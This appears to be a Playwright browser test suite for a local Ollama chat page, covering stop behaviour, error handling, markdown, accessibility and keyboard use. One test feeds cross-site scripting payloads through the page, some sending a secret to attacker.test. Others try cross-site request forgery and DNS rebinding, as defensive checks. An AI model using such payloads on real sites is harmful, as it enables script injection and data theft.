@@ -1,0 +1,628 @@
+"""The chat page in a real Chromium: what a user does there, and what the model's server saw of it.
+
+No test here has an event loop: see `real.chromium`.
+"""
+
+import json
+import re
+import signal
+import time
+from collections.abc import Iterator
+from concurrent.futures import ThreadPoolExecutor
+from typing import Any
+
+import pytest
+
+pytest.importorskip("starlette")
+pytest.importorskip("uvicorn")
+
+from axe_playwright_python.sync_playwright import Axe
+from playwright.sync_api import Browser, BrowserContext, Page, expect
+from real.chromium import BOUND, chromium, find_chromium
+from real.needs import needs
+from real.ollama_server import RealOllama
+from real.web_page import WebPage, web_page
+
+from ollama_async.testing import ConnectionRecord, Cut, FakeOllama, Gate, Reply, Stall
+
+pytestmark = pytest.mark.browser
+
+ENDLESS = Reply.endless_chat(0.01)
+BEGINNING = "This answer comes from a fake Ollama server"
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    binary = find_chromium()
+    if binary is None:
+        needs("a Chromium", how="run .ci/install-parts (Debian), or set OLLAMA_ASYNC_TEST_CHROMIUM")
+    with chromium(binary) as started:
+        yield started
+
+
+@pytest.fixture(scope="module")
+def _ollama() -> Iterator[FakeOllama]:
+    with FakeOllama(models=["fake", "other"]) as server:
+        yield server
+
+
+@pytest.fixture
+def ollama(_ollama: FakeOllama) -> FakeOllama:
+    """The server behind the page, with nothing of the test before in its records."""
+    _ollama.stop()
+    _ollama.forget()
+    return _ollama.start()
+
+
+@pytest.fixture(scope="module")
+def served(_ollama: FakeOllama) -> Iterator[WebPage]:
+    with web_page(_ollama.url) as page:
+        yield page
+
+
+@pytest.fixture
+def context(browser: Browser) -> Iterator[BrowserContext]:
+    """A browser window of its own, in which no script fails."""
+    context = browser.new_context(viewport={"width": 820, "height": 720}, color_scheme="light")
+    context.set_default_timeout(BOUND * 1000)
+    failures: list[str] = []
+    context.on("weberror", lambda failure: failures.append(str(failure.error)))
+    yield context
+    context.close()
+    assert failures == []
+
+
+@pytest.fixture
+def tab(context: BrowserContext, served: WebPage, ollama: FakeOllama) -> "Tab":
+    return Tab(context.new_page(), served.url)
+
+
+expect.set_options(timeout=BOUND * 1000)
+
+
+class Tab:
+    """The chat page in a tab, by what a user finds there."""
+
+    def __init__(self, page: Page, url: str) -> None:
+        self.page = page
+        # The browser's clock is this machine's, but a click by its driver takes a while.
+        page.add_init_script("""
+            const note = () => (window.stoppedAt = Date.now() / 1000);
+            addEventListener("click", ({ target }) => target.textContent === "Stop" && note(), true);
+            addEventListener("keydown", ({ key }) => key === "Escape" && note(), true);
+        """)
+        page.goto(url)
+        self.prompt = page.get_by_role("textbox", name="Your message")
+        self.status = page.get_by_role("status")
+        self.meter = page.locator("#meter")
+        self.stop = page.get_by_role("button", name="Stop")
+        self.answers = page.locator(".written")
+        expect(self.status).to_have_text("Ready")
+
+    def ask(self, text: str = "Tell me a story.") -> None:
+        self.prompt.fill(text)
+        self.prompt.press("Enter")
+
+    def ask_until(self, came: str) -> None:
+        """Ask, and wait until that has come of the answer."""
+        self.ask()
+        expect(self.answers.last).to_contain_text(came)
+
+    def stopped_at(self) -> float:
+        """When the user stopped the answer, by `time.monotonic()`."""
+        at: float = self.page.evaluate("window.stoppedAt")
+        return at - time.time() + time.monotonic()
+
+    def count(self) -> int:
+        """How many tokens the page says have come."""
+        expect(self.meter).to_have_text(re.compile("token"))
+        return int(self.meter.inner_text().partition(" ")[0])
+
+
+def connection_of(ollama: FakeOllama, number: int = 1) -> ConnectionRecord:
+    """The connection of the n-th chat."""
+    return ollama.wait_for_requests(number, path="/api/chat", timeout=BOUND)[number - 1].connection
+
+
+def messages(ollama: FakeOllama, number: int) -> list[tuple[str, str]]:
+    request = ollama.wait_for_requests(number, path="/api/chat", timeout=BOUND)[number - 1]
+    return [(message["role"], message["content"]) for message in request.json()["messages"]]
+
+
+def saw_stop(tab: Tab, connection: ConnectionRecord, how: str) -> None:
+    """Wait until the server has seen the client leave, and tell how long that took."""
+    assert connection.wait_left(BOUND)
+    assert connection.left_at is not None
+    seconds = connection.left_at - tab.stopped_at()
+    print(f"\n{how}: the server saw the client leave {seconds * 1000:.0f} ms after the user's event in the browser")
+    assert seconds < BOUND
+
+
+# -- stopping --
+
+
+def test_stop_in_mid_answer(tab: Tab, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", ENDLESS)
+    tab.ask_until(BEGINNING)
+    expect(tab.status).to_have_text("Answering")
+    tab.stop.click()
+    saw_stop(tab, connection_of(ollama), "Stop")
+    expect(tab.status).to_have_text(re.compile(r"^Stopped by you after \d+ tokens in \d+\.\d s$"))
+    expect(tab.answers.last).to_contain_text(BEGINNING)
+    expect(tab.stop).to_be_hidden()
+    expect(tab.prompt).to_be_focused()
+
+
+def test_escape_stops(tab: Tab, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", ENDLESS)
+    tab.ask_until(BEGINNING)
+    tab.page.keyboard.press("Escape")
+    saw_stop(tab, connection_of(ollama), "Esc")
+    expect(tab.status).to_have_text(re.compile("^Stopped by you after"))
+
+
+def test_stop_while_the_model_loads(tab: Tab, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", Reply(before_head=[Stall()]))
+    tab.ask()
+    expect(tab.status).to_have_text("Waiting for fake:latest, which may be loading")
+    connection = connection_of(ollama)
+    assert connection.open
+    tab.stop.click()
+    saw_stop(tab, connection, "Stop before the headers")
+    expect(tab.status).to_have_text(re.compile(r"^Stopped by you after \d+\.\d s, before anything came$"))
+
+
+def test_the_stop_route_alone_reaches_the_model(tab: Tab, ollama: FakeOllama) -> None:
+    """Also where something between page and server keeps the connection open."""
+    ollama.script("/api/chat", ENDLESS)
+    tab.page.evaluate("AbortController.prototype.abort = () => {}")
+    tab.ask_until(BEGINNING)
+    tab.stop.click()
+    saw_stop(tab, connection_of(ollama), "Stop by its route alone")
+
+
+def test_a_closed_connection_alone_reaches_the_model(tab: Tab, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", ENDLESS)
+    tab.page.route("**/api/stop/*", lambda route: route.abort())
+    tab.ask_until(BEGINNING)
+    tab.stop.click()
+    saw_stop(tab, connection_of(ollama), "Stop by the closed connection alone")
+
+
+def test_a_closed_tab_stops_the_answer(tab: Tab, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", ENDLESS)
+    tab.ask_until(BEGINNING)
+    tab.page.close()
+    assert connection_of(ollama).wait_left(BOUND)
+
+
+def test_a_tab_closed_while_the_model_loads(tab: Tab, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", Reply(before_head=[Stall()]))
+    tab.ask()
+    connection = connection_of(ollama)
+    tab.page.close()
+    assert connection.wait_left(BOUND)
+
+
+def test_a_reload_stops_the_answer_and_keeps_what_came(tab: Tab, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", ENDLESS, Reply.chat("Fine."))
+    tab.ask_until(BEGINNING)
+    tab.page.reload()
+    assert connection_of(ollama).wait_left(BOUND)
+    expect(tab.answers.last).to_contain_text(BEGINNING)
+    expect(tab.page.get_by_role("article").last).to_contain_text("the page was left")
+    expect(tab.status).to_have_text("Ready")
+    tab.ask("And then?")
+    expect(tab.answers.last).to_have_text("Fine.")
+    first, partial, second = messages(ollama, 2)
+    assert (first, second) == (("user", "Tell me a story."), ("user", "And then?"))
+    assert partial[0] == "assistant"
+    assert partial[1].startswith(BEGINNING)
+
+
+def test_two_tabs_at_once(tab: Tab, context: BrowserContext, served: WebPage, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", ENDLESS, ENDLESS)
+    other = Tab(context.new_page(), served.url)
+    tab.ask_until(BEGINNING)
+    other.ask_until(BEGINNING)
+    tab.page.bring_to_front()
+    tab.stop.click()
+    saw_stop(tab, connection_of(ollama, 1), "Stop in one of two tabs")
+    other.page.bring_to_front()
+    before = other.count()
+    expect(other.meter).not_to_have_text(re.compile(rf"^{before} token"))
+    assert other.count() > before
+    expect(other.status).to_have_text("Answering")
+    assert connection_of(ollama, 2).open
+    other.stop.click()
+    saw_stop(other, connection_of(ollama, 2), "Stop in the other one")
+
+
+def test_stop_on_a_slow_network(tab: Tab, context: BrowserContext, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", Reply.endless_chat(0))
+    slow = {"offline": False, "latency": 300, "downloadThroughput": 4000, "uploadThroughput": 4000}
+    context.new_cdp_session(tab.page).send("Network.emulateNetworkConditions", slow)
+    tab.ask_until(BEGINNING)
+    tab.stop.click()
+    saw_stop(tab, connection_of(ollama), "Stop at 4 kB/s with 300 ms of latency")
+    expect(tab.status).to_have_text(re.compile("^Stopped by you after"))
+
+
+# -- what else ends an answer --
+
+
+def test_an_answer_comes_to_its_end(tab: Tab, ollama: FakeOllama) -> None:
+    tab.ask()
+    expect(tab.status).to_have_text(re.compile(r"^Done: 40 tokens in \d+\.\d s$"))
+    expect(tab.answers.last).to_contain_text("until somebody stops it.")
+    expect(tab.page.get_by_role("button", name="Continue")).to_have_count(0)
+    assert messages(ollama, 1) == [("user", "Tell me a story.")]
+
+
+def test_the_model_server_goes_in_mid_answer(tab: Tab, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", Reply([*Reply.chat("Half", done=False).steps, Cut()]))
+    tab.ask_until("Half")
+    expect(tab.status).to_have_text(re.compile("^The Ollama server is gone, after 1 token in "))
+    expect(tab.page.get_by_role("button", name="Continue")).to_be_visible()
+
+
+def test_the_model_fails(tab: Tab, ollama: FakeOllama) -> None:
+    broken = Reply([*Reply.chat("Half", done=False).steps, {"error": "out of memory"}])
+    ollama.script("/api/chat", Reply.error(500, "it crashed"), broken)
+    tab.ask()
+    expect(tab.status).to_contain_text("it crashed")
+    tab.page.get_by_role("button", name="Retry").click()
+    expect(tab.answers.last).to_contain_text("Half")
+    expect(tab.status).to_contain_text("out of memory")
+    assert messages(ollama, 2) == [("user", "Tell me a story.")]
+
+
+def test_there_is_no_model_server_any_more(context: BrowserContext) -> None:
+    with FakeOllama() as ollama, web_page(ollama.url) as served:
+        tab = Tab(context.new_page(), served.url)
+        ollama.stop()
+        tab.ask()
+        expect(tab.status).to_contain_text("Failed to connect to Ollama")
+        tab.page.reload()
+        expect(tab.status).to_contain_text(f"no Ollama server at {ollama.url}")
+        ollama.start()
+        tab.page.get_by_role("button", name="Look again").click()
+        expect(tab.status).to_have_text("Ready")
+
+
+def test_the_page_server_goes_in_mid_answer(context: BrowserContext, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", ENDLESS)
+    with web_page(ollama.url) as served:
+        tab = Tab(context.new_page(), served.url)
+        tab.ask_until(BEGINNING)
+        served.end(signal.SIGKILL)
+    expect(tab.status).to_have_text(re.compile("^The page's own server is gone, after"))
+    assert connection_of(ollama).wait_left(BOUND)
+
+
+def test_a_silent_model_times_out(context: BrowserContext, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", Reply([*Reply.chat("Half", done=False).steps, Stall()]))
+    with web_page(ollama.url, "--timeout-idle", "0.5") as served:
+        tab = Tab(context.new_page(), served.url)
+        tab.ask()
+        expect(tab.status).to_have_text(re.compile("^Timed out after 1 token in .*idle timeout"))
+        assert connection_of(ollama).wait_left(BOUND)
+
+
+def test_ctrl_c_of_the_page_server_stops_the_answers(context: BrowserContext, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", ENDLESS)
+    with web_page(ollama.url) as served:
+        tab = Tab(context.new_page(), served.url)
+        tab.ask_until(BEGINNING)
+        assert served.end() == (130, "")
+    assert connection_of(ollama).wait_left(BOUND)
+    expect(tab.status).to_have_text(re.compile("^Stopped after .*: ollama-async web is ending$"))
+
+
+# -- going on --
+
+
+def test_continue_goes_on_where_the_answer_was_stopped(tab: Tab, ollama: FakeOllama) -> None:
+    half = Gate()
+    ollama.script("/api/chat", Reply([*Reply.chat("Once **upon", done=False).steps, half]), Reply.chat(" a** time."))
+    tab.ask_until("Once")
+    tab.stop.click()
+    tab.page.get_by_role("button", name="Continue").click()
+    expect(tab.answers.last).to_have_text("Once upon a time.")
+    expect(tab.answers.last.locator("strong")).to_have_text("upon a")
+    assert messages(ollama, 2) == [("user", "Tell me a story."), ("assistant", "Once **upon")]
+
+
+def test_retry_asks_again_with_the_model_that_is_chosen(tab: Tab, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", ENDLESS, Reply.chat("Better."))
+    tab.ask_until(BEGINNING)
+    tab.stop.click()
+    tab.page.get_by_role("combobox", name="Model").select_option("other:latest")
+    tab.page.get_by_role("button", name="Retry").click()
+    expect(tab.answers).to_have_text(["Better."])
+    assert messages(ollama, 2) == [("user", "Tell me a story.")]
+    assert [request.json()["model"] for request in ollama.requests if request.route == "/api/chat"] == [
+        "fake:latest",
+        "other:latest",
+    ]
+
+
+def test_a_question_that_got_no_answer_is_not_told_again(tab: Tab, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", Reply.error(500, "it crashed"), Reply.chat("Fine."))
+    tab.ask("lost")
+    expect(tab.status).to_contain_text("it crashed")
+    tab.ask("found")
+    expect(tab.answers.last).to_have_text("Fine.")
+    assert messages(ollama, 2) == [("user", "found")]
+
+
+def test_a_new_chat_begins_with_nothing(tab: Tab, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", Reply.chat("One."), Reply.chat("Two."))
+    tab.ask_until("One.")
+    expect(tab.status).to_have_text(re.compile("^Done"))
+    tab.page.get_by_role("button", name="New chat").click()
+    expect(tab.page.get_by_role("article")).to_have_count(0)
+    tab.ask_until("Two.")
+    assert messages(ollama, 2) == [("user", "Tell me a story.")]
+
+
+# -- what is shown --
+
+MARKDOWN = """\
+## Colours
+
+Blue is **short**, and `red` is long.[^1]
+
+- [x] seen
+- [ ] unseen
+
+```html
+<b>not bold</b>
+```
+
+| a | b |
+|---|---|
+| 1 | 2 |
+
+See [there][1].
+
+[1]: https://example.org/
+"""
+
+
+def test_markdown_and_thoughts(tab: Tab, ollama: FakeOllama) -> None:
+    words = [MARKDOWN[at : at + 3] for at in range(0, len(MARKDOWN), 3)]
+    thinking = Gate()
+    reply = Reply.chat(*words, thinking=["Let me ", "think."])
+    ollama.script("/api/chat", Reply([*reply.steps[:2], thinking, *reply.steps[2:]]))
+    tab.ask()
+    thoughts = tab.page.locator("details")
+    expect(thoughts).to_have_attribute("open", "")
+    expect(thoughts).to_contain_text("Let me think.")
+    thinking.open()
+    expect(tab.status).to_have_text(re.compile("^Done"))
+    expect(thoughts).not_to_have_attribute("open", "")
+    written = tab.answers.last
+    expect(written.get_by_role("heading", name="Colours")).to_be_visible()
+    expect(written.locator("strong")).to_have_text("short")
+    expect(written.locator("pre code")).to_have_text("<b>not bold</b>\n")
+    expect(written.get_by_role("cell", name="2")).to_be_visible()
+    expect(written.get_by_role("listitem").first).to_have_text("\u2611 seen")
+    link = written.get_by_role("link", name="there")
+    expect(link).to_have_attribute("href", "https://example.org/")
+    expect(link).to_have_attribute("rel", "noopener noreferrer")
+
+
+ATTACKS = """\
+<script>window.attacked = 1</script>
+
+<img src="x" onerror="window.attacked = 2">
+
+inline <img src=x onerror="window.attacked = 3"> and <svg onload="window.attacked = 4"></svg>
+
+[one](javascript:window.attacked=5) [two](data:text/html,<script>window.attacked=6</script>)
+
+![picture](https://attacker.test/?secret) ![" onerror="window.attacked=7](x)
+
+<iframe src="javascript:parent.attacked = 8"></iframe>
+
+<form action="https://attacker.test/"><input name="x"><button id="stop">Send</button></form>
+
+<style>body { display: none }</style> <a href="x" style="position:fixed;inset:0" onclick="window.attacked=9">all</a>
+
+<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.attacked=10&gt;">
+
+```"><img src=x onerror="window.attacked=11">
+code
+```
+"""
+
+
+def test_what_a_model_writes_does_nothing_but_show(tab: Tab, ollama: FakeOllama) -> None:
+    asked: list[str] = []
+    tab.page.on("request", lambda request: asked.append(request.url))
+    words = [ATTACKS[at : at + 7] for at in range(0, len(ATTACKS), 7)]
+    ollama.script("/api/chat", Reply.chat(*words, thinking=["<img src=x onerror='window.attacked = 12'>"]))
+    tab.ask()
+    expect(tab.status).to_have_text(re.compile("^Done"))
+    written = tab.answers.last
+    expect(written).to_contain_text("<script>window.attacked = 1</script>")
+    elements = written.evaluate("root => [...root.querySelectorAll('*')].map(e => e.tagName).sort()")
+    assert set(elements) <= {"A", "BR", "CODE", "DIV", "P", "PRE"}
+    attributes = written.evaluate("root => [...root.querySelectorAll('*')].flatMap(e => e.getAttributeNames())")
+    assert set(attributes) <= {"href", "title", "target", "rel"}
+    links = written.evaluate("root => [...root.querySelectorAll('a')].map(a => a.getAttribute('href'))")
+    assert all(link is None or link.startswith("https://") for link in links)
+    assert tab.page.evaluate("window.attacked") is None
+    assert [url for url in asked if "/api/" not in url] == []
+
+
+def test_the_policy_holds_what_the_sanitiser_would_let_through(tab: Tab) -> None:
+    tried = tab.page.evaluate("""async () => {
+        const tried = [];
+        const seen = new Promise((resolve) => addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
+            tried.push(effectiveDirective);
+            if (effectiveDirective === "img-src") resolve();
+        }));
+        try { document.body.innerHTML = "<img src=x onerror='window.attacked = 1'>"; } catch {}
+        const script = document.createElement("script");
+        try { script.textContent = "window.attacked = 2"; document.body.append(script); } catch {}
+        try { await fetch("https://attacker.test/"); } catch {}
+        new Image().src = "https://attacker.test/x.png";
+        await Promise.race([seen, new Promise((resolve) => setTimeout(resolve, 30_000))]);
+        return tried;
+    }""")
+    assert {"require-trusted-types-for", "connect-src", "img-src"} <= set(tried)
+    assert tab.page.evaluate("window.attacked") is None
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_it_is_accessible(tab: Tab, ollama: FakeOllama, scheme: Any) -> None:
+    tab.page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
+    ollama.script("/api/chat", Reply.chat(MARKDOWN, thinking=["Hm."]), ENDLESS)
+    axe = Axe()
+
+    def check() -> None:
+        results = axe.run(tab.page)
+        assert results.violations_count == 0, results.generate_report()
+
+    tab.ask()
+    expect(tab.status).to_have_text(re.compile("^Done"))
+    check()
+    tab.ask_until(BEGINNING)
+    check()
+    tab.stop.click()
+    expect(tab.status).to_have_text(re.compile("^Stopped"))
+    check()
+    ground = tab.page.evaluate("getComputedStyle(document.body).backgroundColor")
+    assert ground == {"light": "rgb(251, 250, 248)", "dark": "rgb(25, 24, 23)"}[scheme]
+
+
+def test_the_keyboard_is_enough(tab: Tab, ollama: FakeOllama) -> None:
+    ollama.script("/api/chat", ENDLESS, Reply.chat("Better."))
+    press = tab.page.keyboard.press
+    expect(tab.prompt).to_be_focused()
+    tab.page.keyboard.type("Two")
+    press("Shift+Enter")
+    tab.page.keyboard.type("lines")
+    press("Tab")
+    expect(tab.page.get_by_role("button", name="Send")).to_be_focused()
+    press("Space")
+    expect(tab.answers.last).to_contain_text(BEGINNING)
+    expect(tab.prompt).to_be_focused()
+    press("Tab")
+    expect(tab.stop).to_be_focused()
+    press("Space")
+    assert connection_of(ollama).wait_left(BOUND)
+    assert messages(ollama, 1) == [("user", "Two\nlines")]
+    expect(tab.prompt).to_be_focused()
+    press("Shift+Tab")
+    press("Shift+Tab")
+    expect(tab.page.get_by_role("button", name="Retry")).to_be_focused()
+    press("Enter")
+    expect(tab.answers.last).to_have_text("Better.")
+    expect(tab.prompt).to_be_focused()
+
+
+# -- other web sites --
+
+
+def test_another_site_reaches_no_model(tab: Tab, context: BrowserContext, served: WebPage, ollama: FakeOllama) -> None:
+    body = json.dumps({"model": "fake", "messages": [{"role": "user", "content": "hi"}]})
+    context.route(
+        "http://attacker.test/**", lambda route: route.fulfill(body="<form></form>", content_type="text/html")
+    )
+    attacker = context.new_page()
+    attacker.goto("http://attacker.test/")
+    for types in ("text/plain", "application/json"):
+        attacker.evaluate(
+            """([url, body, type]) => fetch(url, {
+                method: "POST", mode: "no-cors", body, headers: { "Content-Type": type },
+                signal: AbortSignal.timeout(30_000),
+            }).catch(() => {})""",
+            [f"{served.url}api/chat", body, types],
+        )
+    with attacker.expect_navigation():
+        attacker.evaluate(
+            """([url, body]) => {
+                const form = document.forms[0];
+                Object.assign(form, { action: url, method: "POST", enctype: "text/plain" });
+                const [name, ...value] = body.split(":");
+                const input = Object.assign(document.createElement("input"), { name, value: value.join(":") });
+                form.append(input);
+                form.submit();
+            }""",
+            [f"{served.url}api/chat", body],
+        )
+    expect(attacker.locator("body")).to_contain_text("another web site asked for this")
+    tab.ask()  # the page itself may
+    expect(tab.status).to_have_text(re.compile("^Done"))
+    assert len(ollama.wait_for_requests(path="/api/chat")) == 1
+
+
+def test_a_name_that_was_made_to_point_here_is_refused(context: BrowserContext, served: WebPage) -> None:
+    page = context.new_page()
+    answer = page.goto(served.url.replace("127.0.0.1", "rebound.test"))
+    assert answer is not None
+    assert answer.status == 403
+    expect(page.locator("body")).to_contain_text("this page is not at 'rebound.test")
+    answer = page.goto(served.url.replace("127.0.0.1", "localhost"))
+    assert answer is not None
+    assert answer.status == 200
+
+
+# -- other servers --
+
+
+def test_without_a_server_an_embedded_one_answers_and_the_page_says_so(context: BrowserContext) -> None:
+    with web_page("127.0.0.1:1") as served:
+        assert "no model computes anything" in served.said
+        tab = Tab(context.new_page(), served.url)
+        expect(tab.page.get_by_role("note")).to_contain_text("no model computes anything")
+        tab.ask()
+        expect(tab.answers.last).to_contain_text("This answer is always the same")
+        expect(tab.page.locator("details")).to_be_visible()
+        tab.stop.click()
+        expect(tab.status).to_have_text(re.compile("^Stopped by you after"))
+
+
+@pytest.fixture(scope="module")
+def _served_by_real(_ollama_server: RealOllama) -> Iterator[WebPage]:
+    with web_page(_ollama_server.url) as page:
+        yield page
+
+
+@pytest.fixture
+def real_tab(context: BrowserContext, _served_by_real: WebPage, real_ollama: RealOllama) -> Tab:
+    return Tab(context.new_page(), _served_by_real.url)
+
+
+@pytest.mark.real
+def test_stop_on_a_real_server(real_tab: Tab, real_ollama: RealOllama) -> None:
+    mark = real_ollama.mark()
+    real_tab.ask()
+    expect(real_tab.status).to_have_text("Answering")
+    assert real_ollama.request_ends(mark, "/api/chat") == []
+
+    def ended_at() -> float:
+        [end] = real_ollama.wait_for_request_end(mark, timeout=BOUND)
+        assert end.status == 200
+        return time.monotonic()
+
+    with ThreadPoolExecutor(1) as beside:  # its log has whole seconds only, so somebody has to look meanwhile
+        seen = beside.submit(ended_at)
+        real_tab.stop.click()
+        seconds = seen.result() - real_tab.stopped_at()
+    print(f"\nStop: the real server had logged the request's end {seconds * 1000:.0f} ms after the click")
+    real_ollama.wait_until_idle(timeout=BOUND)
+    expect(real_tab.status).to_have_text(re.compile(r"^Stopped by you after \d+ tokens? in"))
+
+
+@pytest.mark.real
+def test_a_closed_tab_on_a_real_server(real_tab: Tab, real_ollama: RealOllama) -> None:
+    mark = real_ollama.mark()
+    real_tab.ask()
+    expect(real_tab.status).to_have_text("Answering")
+    real_tab.page.close()
+    real_ollama.wait_for_request_end(mark, timeout=BOUND)
+    real_ollama.wait_until_idle(timeout=BOUND)
